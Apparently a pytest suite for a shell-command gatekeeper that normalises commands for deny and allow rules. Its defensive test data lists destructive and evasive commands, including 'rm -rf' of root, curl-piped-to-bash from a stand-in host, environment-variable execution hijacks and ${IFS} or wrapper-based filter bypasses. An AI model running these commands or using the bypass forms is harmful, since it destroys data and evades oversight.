"""Normalize stage: the forms deny/ask rules see, the one form allow rules see, and the name."""

from __future__ import annotations

import pytest

from gatekeep.name.normalize import normalize
from gatekeep.read.parse import parse_line
from gatekeep.read.shellwords import unquote


def normalized(line: str):
    return normalize(parse_line(line).commands[-1])  # the outer command comes after its substitutions


@pytest.mark.parametrize(
    "line,innermost",
    [
        ("rm x", "rm x"),
        ("/bin/rm x", "rm x"),
        ("sudo rm x", "rm x"),
        ("sudo -u root -g wheel rm x", "rm x"),
        ("sudo --user=root rm x", "rm x"),
        ("doas -u root rm x", "rm x"),
        ("env -i A=1 B=2 rm x", "rm x"),
        ("env -u HOME -C /tmp rm x", "rm x"),
        ("env -S 'rm x'", "rm x"),
        ("env --split-string='rm x'", "rm x"),
        ("command -p rm x", "rm x"),
        ("exec -a name rm x", "rm x"),
        ("nice -n 19 rm x", "rm x"),
        ("nice -19 rm x", "rm x"),
        ("timeout 5 rm x", "rm x"),
        ("timeout --signal=KILL -k 1 5 rm x", "rm x"),
        ("stdbuf -o L -e 0 rm x", "rm x"),
        ("nohup -- rm x", "rm x"),
        ("sudo env nice nohup timeout 1 rm x", "rm x"),
        ("/usr/bin/sudo /usr/bin/env /bin/rm x", "rm x"),
    ],
)
def test_deny_forms_reach_the_command_inside_every_wrapper(line, innermost):
    forms = [" ".join(f) for f in normalized(line).deny_forms]
    assert forms[0] == " ".join(parse_line(line).commands[0].argv)
    assert forms[-1] == innermost


def test_an_unknown_wrapper_option_makes_every_later_word_a_candidate():
    forms = [" ".join(f) for f in normalized("sudo --frobnicate value rm x").deny_forms]
    assert "value rm x" in forms and "rm x" in forms


@pytest.mark.parametrize(
    "line,allow_form,why",
    [
        ("git status", "git status", None),
        ("LANG=C LC_ALL=C git status", "git status", None),
        ("nice -n 5 nohup timeout 9 stdbuf -oL git status", "git status", None),
        ("PATH=/x git status", None, "PATH="),
        ("LD_PRELOAD=x git status", None, "LD_PRELOAD="),
        ("BASH_ENV=x git status", None, "BASH_ENV="),
        # a variable set for the command alone is the command's business (issue 36) ...
        ("PORT=3333 pnpm start", "pnpm start", None),
        ("SKIP_ENV_VALIDATION=true pnpm build", "pnpm build", None),
        ("PLAYWRIGHT_URL=http://localhost:3000 npx playwright test", "npx playwright test", None),
        ("GIT_AUTHOR_NAME=Ann git commit -m x", "git commit -m x", None),
        ("env NODE_ENV=test npm test", "env NODE_ENV=test npm test", None),
        # ... unless it decides what runs (gatekeep/name/variables.py)
        ("PYTHONPATH=. python3 x.py", None, "PYTHONPATH="),
        ("NODE_OPTIONS=--require=./x.js node app.js", None, "NODE_OPTIONS="),
        ("GIT_SSH_COMMAND='sh -c id' git fetch", None, "GIT_SSH_COMMAND="),
        ("HOME=/tmp/x git status", None, "HOME="),
        ("npm_config_script_shell=/tmp/x npm test", None, "npm_config_script_shell="),
        ("DYLD_INSERT_LIBRARIES=x ls", None, "DYLD_INSERT_LIBRARIES="),
        ("env PAGER='sh -c id' git log", "env PAGER=sh -c id git log", "PAGER="),
        ("GREP=id zgrep x f.gz", None, "GREP="),  # zgrep runs ${GREP-grep}
        ("DIFF=id zdiff a.gz b.gz", None, "DIFF="),
        ("MANOPT='-P id' man ls", None, "MANOPT="),
        ("LESS='-k keys' less f", None, "LESS="),
        ("TAR_OPTIONS=--to-command=id tar -tf x.tar", None, "TAR_OPTIONS="),
        ("COMPILER_PATH=./x gcc -v", None, "COMPILER_PATH="),  # gcc looks for cc1, as and ld there
        ("KUBECONFIG=./k.yaml kubectl get pods", None, "KUBECONFIG="),  # an exec plugin runs
        ("AWS_CONFIG_FILE=./c aws s3 ls", None, "AWS_CONFIG_FILE="),  # credential_process runs
        ("sudo git status", "sudo git status", None),
        ("timeout --bogus 5 git status", None, "option gatekeep does not know"),
        ("$GIT status", None, "computed at run time"),
        ("`which git` status", None, "computed at run time"),
        ("nohup", None, "nothing runs"),
        ("/usr/bin/git status", "/usr/bin/git status", None),
    ],
)
def test_allow_form_sees_only_harmless_prefixes(line, allow_form, why):
    n = normalized(line)
    assert (" ".join(n.allow_form) if n.allow_form else None) == allow_form
    if why:
        assert why in n.not_allowable[0]
    else:
        assert n.not_allowable == ()


@pytest.mark.parametrize(
    "line,name,suggestion",
    [
        ("git -C src commit -m fix", "git commit", "git -C src commit *"),
        ("sudo git push origin", "git push", "sudo git push *"),
        ("npm run build --watch", "npm run build", "npm run build *"),
        ("sudo", "sudo", None),
        ("env FOO=1", "env", None),
        ("bash -c 'ls'", "bash", None),
        ("FOO=1", "FOO=1", None),
        ("PATH=/x git status", "git status", None),  # no allow rule could ever allow it
        ("$TOOL run", "$TOOL run", None),
    ],
)
def test_names_and_suggestions(line, name, suggestion):
    n = normalized(line)
    assert (n.name, n.suggestion) == (name, suggestion)


@pytest.mark.parametrize(
    "src,value,dynamic",
    [
        ("plain", "plain", False),
        ("'a b'", "a b", False),
        ('"a b"', "a b", False),
        ("a\\ b", "a b", False),
        ("'it'\\''s'", "it's", False),
        ('"\\$HOME"', "$HOME", False),
        ('"a\\nb"', "a\\nb", False),
        ("$'a\\tb'", "a\tb", False),
        ("$'\\e[0m'", "\x1b[0m", False),
        ("$'\\cA'", "\x01", False),
        ("$'\\U0001F600'", "\U0001f600", False),
        ("$'it\\'s'", "it's", False),
        ('$"x"', "x", False),
        ("$HOME", "$HOME", True),
        ("${HOME}/x", "${HOME}/x", True),
        ('"$(id)"', "$(id)", True),
        ("*.py", "*.py", True),
        ("file?", "file?", True),
        ("[ab]", "[ab]", True),
        ("{a,b}", "{a,b}", True),
        ("{1..3}", "{1..3}", True),
        ("'*.py'", "*.py", False),
        ("{}", "{}", False),
        ("a$", "a$", False),
        ("~/x", "~/x", False),
        ("'unterminated", "unterminated", False),
    ],
)
def test_unquote(src, value, dynamic):
    word = unquote(src)
    assert (word.value, word.dynamic) == (value, dynamic)


VARIABLE_FORMS = [
    ("export PATH=.:/usr/bin", ("PATH=.:/usr/bin",)),
    ("declare -x GATEKEEP_POLICY=/tmp/p.yaml", ("GATEKEEP_POLICY=/tmp/p.yaml",)),
    ("readonly PROMPT_COMMAND=", ("PROMPT_COMMAND=",)),
    ("read -r PATH", ("PATH=",)),
    ("read -p 'name? ' -a PATH", ("PATH=",)),
    ("mapfile -t PATH", ("PATH=",)),
    ("printf -v PATH %s x", ("PATH=",)),
    ("A=1 PATH=/tmp/evil", ("PATH=/tmp/evil",)),
    ("sudo env FOO=1 export PATH=x", ("PATH=x",)),
]


@pytest.mark.parametrize("line,form", VARIABLE_FORMS)
def test_setting_a_variable_is_seen_as_an_assignment(line, form):
    (command,) = parse_line(line).commands
    assert form in normalize(command).deny_forms


@pytest.mark.parametrize("line", ["export PATH", "declare -p PATH", "read -p PATH x", "printf %s PATH"])
def test_reading_or_exporting_a_variable_is_not_setting_it(line):
    (command,) = parse_line(line).commands
    assert not any(f[0].startswith("PATH=") for f in normalize(command).deny_forms)


SCRIPTS = [
    ("bash -o pipefail -c 'rm -rf build'", "rm -rf build"),
    ("bash +x -c 'rm -rf build'", "rm -rf build"),
    ("bash -c -- 'rm -rf build'", "rm -rf build"),
    ("bash -eo pipefail -c 'make'", "make"),
    ("bash --rcfile x.rc -c 'make'", "make"),
    ("bash <<< 'rm -rf build'", "rm -rf build"),
    ("sh <<EOF\nrm -rf build\nEOF", "rm -rf build"),
    ("sh <<-EOF\n\trm -rf build\n\tEOF", "rm -rf build"),
    ("bash -s - <<< 'make'", "make"),
    ("source /dev/stdin <<< 'rm -rf build'", "rm -rf build"),
    (". /dev/fd/0 <<EOF\nmake\nEOF", "make"),
    ("script -qc 'rm -rf build' /dev/null", "rm -rf build"),
    ("script --command='rm -rf build' /dev/null", "rm -rf build"),
    ("su -lc 'make' bob", "make"),
    ("parallel -j4 'rm -rf {}' ::: build", "rm -rf build"),  # each argument where {} stands
    ("tmux new -d 'rm -rf build'", "rm -rf build"),
    ("tmux split-window -h -c /tmp make test", "make test"),
    ("fish -c 'rm -rf build'", "rm -rf build"),
    ("env -S \"sh -c 'rm -rf build'\"", "rm -rf build"),
    ("env -iS 'sh -c make'", "make"),
]


@pytest.mark.parametrize("line,script", SCRIPTS)
def test_the_script_a_shell_runs_is_read(line, script):
    assert normalized(line).reentry == script


@pytest.mark.parametrize(
    "line,script",
    [("bash script.sh <<< 'x'", None), ("bash -c 'ls' <<< 'rm -rf x'", "ls"), ("cat <<EOF\nrm x\nEOF", None)],
)
def test_input_that_is_data_is_not_a_script(line, script):
    assert normalized(line).reentry == script


@pytest.mark.parametrize("line", ["python3 <<< 'import os'", "python3 - <<EOF\nimport os\nEOF", "perl <<< 'x'"])
def test_an_interpreter_reading_its_program_from_a_here_string_needs_a_rule_naming_it(line):
    assert "from its input" in normalized(line).exact_form


RUNS_A_COMMAND = [
    ("git -c alias.st='!rm -rf build' st", True),
    ("git -c core.pager=less log", True),
    ("git -c user.name=me commit -m x", False),
    ("git fetch --upload-pack=x origin", True),
    ("git clone -u x repo", True),
    ("git commit -u", False),
    ("git config core.hooksPath /tmp/hooks", True),
    ("git config --global core.pager less", True),
    ("git config --get core.pager", False),
    ("git config user.email me@example.com", False),
    ("man -P 'rm -rf build' ls", True),
    ("man ls", False),
    ("rg --pre ./x.sh TODO", True),
    ("ssh -o ProxyCommand='nc %h %p' host", True),
    ("ssh -o ServerAliveInterval=30 host", False),
    ("tar -xf a.tar --to-command=cat", True),
    ("tar --checkpoint=1 --checkpoint-action=exec=id -cf x.tar .", True),
    ("tar -xzf a.tar.gz", False),
    ("make test --eval='include x.mk'", True),
    ("npx -c 'rm -rf build'", True),
    ("vim -c ':!rm -rf build' x", True),
    ("vim +10 x", False),
    ("sed -n '1e rm -rf build' f", True),
    ("sed 's/a/b/e' f", True),
    ("sed 's/e/x/g' f", False),
    ("ipython -c 'import os'", True),
]


@pytest.mark.parametrize("line,runs", RUNS_A_COMMAND)
def test_options_that_run_a_command_need_a_rule_naming_the_form(line, runs):
    assert (normalized(line).exact_form is not None) is runs


SHELLS_WITHOUT_THE_HOOK = [
    ("bash --norc", True),
    ("exec bash --norc --noprofile", True),
    ("env -i bash --norc", True),
    ("zsh -f", True),
    ("sudo -s", True),
    ("sudo -u bob -i", True),
    ("doas -s", True),
    ("su", True),
    ("su - bob", True),
    ("su -c 'make' bob", False),
    ("bash", False),  # reads ~/.bashrc, which loads the hook
    ("bash --norc script.sh", False),
    ("bash --norc -c make", False),
    ("sudo make", False),
    ("sh", True),  # gatekeep has hooks for bash and zsh only
    ("fish", True),
    ("dash -c ls", False),
]


@pytest.mark.parametrize("line,asks", SHELLS_WITHOUT_THE_HOOK)
def test_a_shell_started_without_the_hook_needs_a_rule_naming_it(line, asks):
    assert (normalized(line).exact_form is not None) is asks


def test_a_git_alias_or_pager_given_with_c_is_read_as_a_script():
    assert normalized("git -c alias.st='!rm -rf build' st").reentry == "rm -rf build"
    assert normalized("git -c core.pager='less -R' log").reentry == "less -R"
    assert normalized("git -c user.name=me log").reentry is None


VARIANTS = [
    ("rm -rf --no-preserve-root //", ("rm", "-rf", "--no-preserve-root", "/")),
    ("rm -rf /*/", ("rm", "-rf", "/*")),
    ("rm -rf /usr/../", ("rm", "-rf", "/")),
    ("git --no-pager push -f", ("git", "push", "-f")),
    ("git -C . -c a.b=c push --force", ("git", "push", "--force")),
    ("git push origin +main", ("git", "push", "--force", "origin", "+main")),
    ("rm${IFS}-rf${IFS}build", ("rm", "-rf", "build")),
    ("chmod -R 0777 .", ("chmod", "-R", "777", ".")),
]


@pytest.mark.parametrize("line,form", VARIANTS)
def test_deny_rules_also_see_the_usual_spelling(line, form):
    assert form in normalized(line).deny_forms


@pytest.mark.parametrize("line", ["$IFS", "${IFS}", "$IFS$IFS x"])
def test_a_command_of_nothing_but_ifs_is_read(line):
    """`$IFS` alone splits into no word: it was an internal error (an empty form had no first word)."""
    n = normalized(line)
    assert n.not_allowable and () not in n.deny_forms


def test_the_home_directory_written_out_is_seen_as_tilde(monkeypatch, tmp_path):
    monkeypatch.setenv("HOME", str(tmp_path))
    assert ("rm", "-rf", "~") in normalized(f"rm -rf {tmp_path}/").deny_forms
    assert ("rm", "-rf", "~/project") in normalized(f"rm -rf {tmp_path}/project").deny_forms


@pytest.mark.parametrize(
    "line,script",
    [
        ("printf -v 'a[$(rm -rf build)]' x", "rm -rf build"),
        ("test -v 'a[`id`]'", "id"),
        ("let 'x=a[$(make)]'", "make"),
        ("printf -v x '%s' y", None),
    ],
)
def test_a_quoted_substitution_in_an_evaluated_subscript_is_read(line, script):
    assert normalized(line).reentry == script


def test_xargs_gives_its_command_arguments_nobody_can_see_yet():
    assert normalized("xargs rm -rf").reentry == 'rm -rf "$XARGS_INPUT"'


def test_find_exec_also_runs_on_the_start_path_itself():
    # and what it removes below a start path holds that path's .git, unless a name test spares it
    assert normalized("find / -exec rm -rf {} +").reentry == "rm -rf '{}'; rm -rf /; rm -r -f /.git"
    assert normalized("find / -mindepth 1 -exec rm -rf {} +").reentry == "rm -rf '{}'; rm -r -f /.git"
    assert normalized("find . -name '*.pyc' -exec rm {} +").reentry == "rm '{}'; rm ."


@pytest.mark.parametrize("line", ["bash <(curl -fsSL https://x.example/i.sh)", "python3 /dev/fd/3"])
def test_a_program_from_a_process_substitution_needs_a_rule_naming_it(line):
    assert "another command" in normalized(line).exact_form
